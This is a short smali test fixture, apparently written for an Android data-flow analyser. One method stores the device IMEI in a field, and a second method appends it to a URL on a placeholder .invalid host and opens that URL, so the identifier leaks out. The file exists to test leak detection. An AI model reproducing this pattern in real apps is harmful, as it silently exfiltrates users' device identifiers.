.class public Lorg/appxray/test/flows/FieldFlow;
.super Ljava/lang/Object;

# The IMEI is stored in a field by one method and sent by another (medium).

.field private imei:Ljava/lang/String;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public collect(Landroid/telephony/TelephonyManager;)V
    .registers 3
    invoke-virtual {p1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    iput-object v0, p0, Lorg/appxray/test/flows/FieldFlow;->imei:Ljava/lang/String;
    return-void
.end method

.method public send()V
    .registers 4
    new-instance v0, Ljava/lang/StringBuilder;
    const-string v1, "http://fields.flows-test.invalid/id?imei="
    invoke-direct {v0, v1}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    iget-object v1, p0, Lorg/appxray/test/flows/FieldFlow;->imei:Ljava/lang/String;
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/net/URL;
    invoke-direct {v1, v0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
    return-void
.end method
